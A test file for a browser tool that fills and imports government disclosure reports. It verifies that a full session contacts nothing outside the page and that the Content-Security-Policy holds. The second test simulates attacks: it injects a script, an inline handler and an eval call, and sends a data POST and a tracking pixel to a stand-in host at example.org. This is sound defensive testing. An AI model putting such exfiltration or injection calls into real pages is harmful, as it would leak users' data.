// Nothing leaves the browser, enforced: the page's Content-Security-Policy refuses scripts it did
// not ship and any connection elsewhere, and a user's whole session — filling, opening, importing
// every kind of file, exporting, printing — requests nothing outside the page's own files.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { appUnderTest, TARGET } from './harness.mjs';

const root = new URL('../../', import.meta.url).pathname;
const FIXTURE_TEXT = readFileSync(`${root}tests/fixtures/quangang-2023.json`, 'utf8');
const REPORT_TEXT = readFileSync(`${root}tests/fixtures/泉港区-2023.txt`);
// The fixture's .docx printed to PDF by LibreOffice: read by the PDF reader, loaded on demand.
const REPORT_PDF = readFileSync(`${root}tests/fixtures/pdf/made-by/quangang-2023-libreoffice-docx.pdf`);
// The report's web page saved by Chromium as one file (「网页，单个文件」): its parts name the site's
// images and styles, which must not be fetched.
const REPORT_MHTML = readFileSync(`${root}tests/routes/quangang-2023/page.mhtml`);

const app = appUnderTest();

/** Whether a request stays on the page: its own origin (served) or its own file (file://). */
function own(url) {
  const u = new URL(url);
  if (u.protocol === 'blob:' || u.protocol === 'data:') return true;
  const page = new URL(app.url);
  return TARGET === 'bundle' ? u.href.split('#')[0] === page.href : u.origin === page.origin;
}

async function download(page, action) {
  const [file] = await Promise.all([page.waitForEvent('download'), page.click(`[data-action="${action}"]`)]);
  return readFileSync(await file.path());
}

test('a whole session requests nothing outside the page: fill, open, import each kind (txt, pdf, docx, xlsx, html, mhtml), export, print', async (t) => {
  const requests = [];
  const { page, errors } = await app.fresh(async (context) => {
    context.on('request', (r) => requests.push(r.url()));
    await context.addInitScript(() => { window.print = () => { window.top.__printed = true; }; });
  });
  await page.fill('[data-field="organ"]', '某县人民政府');
  await page.fill('[data-cell="proactive.licensing"]', '12');
  await page.fill('[data-text="problems"]', '栏目更新不及时。');
  await page.setInputFiles('input[data-file="open-report"]', { name: 'quangang-2023.json', mimeType: 'application/json', buffer: Buffer.from(FIXTURE_TEXT) });
  await page.waitForFunction(() => document.querySelector('[data-field="organ"]').value === '泉州市泉港区人民政府');

  const files = [
    ['泉港区-2023.txt', 'text/plain', REPORT_TEXT],
    ['泉港区-2023.pdf', 'application/pdf', REPORT_PDF],
    ['泉港区-2023.mhtml', 'multipart/related', REPORT_MHTML],
    ['泉港区-2023.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', await download(page, 'download-docx')],
    ['泉港区-2023.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', await download(page, 'download-xlsx')],
  ];
  await download(page, 'download-json');
  await page.click('[data-action="print"]');
  await page.waitForFunction(() => window.__printed === true);
  // The print view is a whole report page: imported as a published .html.
  files.push(['泉港区-2023.html', 'text/html', Buffer.from(await page.$eval('iframe[data-print]', (f) => f.srcdoc))]);

  for (const [name, mimeType, buffer] of files) {
    await page.click('[data-action="import-report"]');
    await page.waitForSelector('dialog[data-import="dialog"][open]');
    await page.setInputFiles('input[data-file="import-report"]', { name, mimeType, buffer });
    await page.waitForSelector('[data-import="review"]');
    assert.equal(await page.textContent('[data-review="recognised"]'), '166', name);
    await page.click('[data-action="import-cancel"]');
    await page.waitForSelector('dialog[data-import="dialog"]', { state: 'detached' });
  }
  t.diagnostic(`${requests.length} requests, all to the page itself: ${[...new Set(requests.map((u) => (/^https?:|^file:/.test(u) ? new URL(u).pathname.split('/').pop() || '/' : `${u.split(':')[0]}:`)))].join(' ')}`);
  assert.ok(requests.length > 0, 'requests are recorded');
  assert.deepEqual(requests.filter((u) => !own(u)), []);
  assert.deepEqual(errors, []);
});

test('the Content-Security-Policy is in force: no injected script or eval runs, nothing is fetched or loaded from elsewhere', async () => {
  const { page } = await app.fresh();
  const csp = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (m) => m.content);
  assert.match(csp, TARGET === 'bundle' ? /^default-src 'none'/ : /^default-src 'self'/);
  assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|https?:|\*/);
  const seen = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.head.append(script);
    // An inline handler, and eval from the page's own task (the test's own evaluation is exempt).
    document.body.setAttribute('onclick', 'window.__handler = true');
    document.body.click();
    const evaluated = await new Promise((ok) => setTimeout(() => { try { ok(eval('true')); } catch { ok(false); } }));
    const fetched = await fetch('https://example.org/collect', { method: 'POST', body: 'figures' }).then(() => true, () => false);
    const image = new Image();
    image.src = 'https://example.org/pixel.png';
    await new Promise((r) => setTimeout(r, 200));
    return { injected: window.__injected === true, handler: window.__handler === true, evaluated, fetched, violations: [...new Set(violations)].sort() };
  });
  const { violations, ...outcome } = seen;
  assert.deepEqual(outcome, { injected: false, handler: false, evaluated: false, fetched: false });
  // Each refusal is reported as a violation of the policy, not merely a failed request.
  for (const d of ['connect-src', 'img-src', 'script-src-elem', 'script-src-attr']) assert.ok(violations.includes(d), `${d} in ${violations}`);
});
